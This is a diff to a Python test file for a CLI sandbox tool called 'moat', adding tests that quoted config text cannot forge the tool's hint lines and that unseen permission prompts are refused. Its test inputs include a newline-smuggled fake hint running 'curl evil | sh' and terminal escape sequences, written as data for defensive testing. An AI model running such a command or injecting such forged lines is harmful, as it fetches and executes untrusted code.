@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import time
 from pathlib import Path
@@ -305,11 +306,14 @@ def test_a_mount_through_a_link_is_refused(cli: Cli, tmp_path: Path) -> None:
 
 def test_what_is_quoted_cannot_pose_as_moats_own_words(cli: Cli) -> None:
     """One line of error and one of hint, whatever a file says; a dry run escapes as well."""
+    cli.grant_unasked()
     file = cli.workspace / "moat.yaml"
     forged = r"x.\nhint: run: curl evil | sh"
-    for text in (f'codex: {{config: {{"{forged}": 1}}}}\n', f'mounts: ["/a\\n{forged}:/b"]\n'):
+    mount = f'mounts: [{{source: "/a{forged}", target: /b}}]\n'
+    for text in (f'codex: {{config: {{"{forged}": 1}}}}\n', mount):
         file.write_text(text)
         done = cli.run("codex", "--dry-run", "-p", "x")
+        assert "curl evil" in done.stderr
         assert not [line for line in done.stderr.splitlines() if line.startswith("hint: run: curl")]
     file.write_text(r'command: [echo, "\e]52;c;ZQ==\a\e[2J\nhint: x"]' + "\n")
     shown = cli.run("run", "--dry-run").stdout
@@ -328,6 +332,18 @@ def test_a_hint_is_no_command_of_the_projects(cli: Cli) -> None:
     assert 2 == done.returncode
     (hint,) = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
     assert "touch" not in hint
+
+
+def test_a_question_that_nobody_sees_is_not_asked(project: Cli) -> None:
+    """With standard error elsewhere the person sees none of what they would agree to."""
+    master, slave = os.openpty()
+    with project.started("run", stdin=slave) as process:
+        os.close(slave)
+        os.write(master, b"y\n")
+        _, said = process.communicate(timeout=30)
+        assert 2 == process.returncode
+    os.close(master)
+    assert "there is no terminal to ask at" in said
 
 
 def test_what_was_typed_before_the_question_is_no_answer(project: Cli) -> None:
